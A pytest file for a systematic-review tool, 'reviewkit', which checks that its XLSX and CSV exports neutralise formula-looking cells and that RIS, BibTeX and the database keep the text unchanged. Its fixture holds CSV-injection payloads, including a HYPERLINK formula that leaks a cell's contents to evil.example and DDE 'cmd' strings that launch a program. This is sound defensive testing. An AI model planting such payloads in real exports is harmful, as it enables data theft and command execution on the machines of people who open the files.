"""Exports are safe to open in Excel (OWASP CSV injection): formula-looking cells are neutralised
in XLSX and CSV, read back with openpyxl and the csv module; the database, RIS and BibTeX keep
the text unchanged, and reviewkit's own CSVs read back to the original text."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from openpyxl import load_workbook

from reviewkit import screening
from reviewkit.cli import main
from reviewkit.project import open_project
from reviewkit.reports.studies import all_reports

REPO = Path(__file__).parent.parent.parent
PROTOCOL = REPO / "protocols" / "work-health-collaboration.toml"
TITLE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for the full text")'
EVIL = {
    "intervention": "=cmd|' /C calc'!A0",
    "population": "+1+1",
    "design": "@SUM(1,2)",
    "effect": "-2+3+cmd|' /C calc'!A0",
}
NUMBER = "-0.35"  # a plain number is not a formula and stays as it is


@pytest.fixture
def evil_project(tmp_path: Path, capsys) -> Path:
    """A project with one included study whose title and extraction values are formulas."""
    project = tmp_path / "project"
    ris = tmp_path / "evil.ris"
    ris.write_text(
        f"TY  - JOUR\nTI  - {TITLE}\nAU  - Smith, John\nPY  - 2021\nER  - \n"
        "TY  - JOUR\nTI  - A plain second study\nAU  - Doe, Ann\nPY  - 2020\nER  - \n",
        encoding="utf-8",
    )
    assert main(["init", str(project), "--protocol", str(PROTOCOL)]) == 0
    assert main(["import", str(ris), "--project", str(project)]) == 0
    with open_project(project) as p:
        ids = all_reports(p)
        for rid in ids:
            for stage in ("title-abstract", "full-text"):
                for reviewer in ("reviewer1", "reviewer2"):
                    screening.decide(p.db, rid, stage, reviewer, "include", protocol=p.protocol)
    first = str(ids[0])
    for field, value in EVIL.items():
        args = ["extract", "set", first, f"{field}={value}", "--reviewer", "reviewer1"]
        assert main([*args, "--project", str(project)]) == 0
    assert main(["extract", "set", str(ids[1]), f"effect={NUMBER}", "--project", str(project)]) == 0
    capsys.readouterr()
    return project


def _csv_cells(path: Path) -> list[str]:
    with path.open(encoding="utf-8", newline="") as fh:
        return [cell for row in csv.reader(fh) for cell in row]


def test_xlsx_report_holds_text_never_formulas(evil_project: Path, tmp_path: Path) -> None:
    out = tmp_path / "out"
    assert (
        main(["report", "--out", str(out), "--format", "xlsx", "--project", str(evil_project)]) == 0
    )
    wb = load_workbook(out / "report.xlsx")
    cells = [
        c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None
    ]
    assert not [c.coordinate for c in cells if c.data_type == "f"]  # no formula anywhere
    shown = {c.value: c for c in cells}
    for value in EVIL.values():
        cell = shown[value]  # the text itself, unchanged, as a text cell with the quote prefix
        assert cell.data_type == "s" and cell.quotePrefix


def test_csv_report_and_exports_neutralise_formula_cells(
    evil_project: Path, tmp_path: Path, capsys
) -> None:
    out = tmp_path / "out"
    assert (
        main(["report", "--out", str(out), "--format", "csv", "--project", str(evil_project)]) == 0
    )
    export = tmp_path / "included.csv"
    extraction = tmp_path / "extraction.csv"
    for args in (
        ["export", "--included", "--format", "csv", "--out", str(export)],
        ["extract", "export", str(extraction)],
    ):
        assert main([*args, "--project", str(evil_project)]) == 0
    cells = [c for f in (*out.rglob("*.csv"), export, extraction) for c in _csv_cells(f)]
    dangerous = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r") and c != NUMBER]
    assert dangerous == []
    for value in EVIL.values():
        assert "'" + value in cells
    assert "'" + TITLE in _csv_cells(export) and "'" + TITLE in _csv_cells(extraction)
    assert NUMBER in _csv_cells(extraction)


def test_text_stays_unchanged_in_database_ris_and_bibtex(
    evil_project: Path, tmp_path: Path, capsys
) -> None:
    for fmt, text in (("ris", TITLE), ("bibtex", TITLE.replace("&", "\\&"))):  # BibTeX's own escape
        capsys.readouterr()
        assert main(["export", "--included", "--format", fmt, "--project", str(evil_project)]) == 0
        assert text in capsys.readouterr().out
    with open_project(evil_project) as p:
        from reviewkit import extract

        assert (
            extract.values(p, all_reports(p))[all_reports(p)[0]]["intervention"]
            == EVIL["intervention"]
        )


def test_reviewkit_reads_its_own_csv_back_unchanged(
    evil_project: Path, tmp_path: Path, capsys
) -> None:
    export, extraction = tmp_path / "included.csv", tmp_path / "extraction.csv"
    project = ["--project", str(evil_project)]
    assert main(["export", "--included", "--format", "csv", "--out", str(export), *project]) == 0
    assert main(["extract", "export", str(extraction), *project]) == 0
    capsys.readouterr()
    assert main(["extract", "import", str(extraction), "--reviewer", "reviewer1", *project]) == 0
    assert "0 values changed" in capsys.readouterr().out
    from reviewkit import formats

    assert TITLE in [r.title for r in formats.read_file(export)]
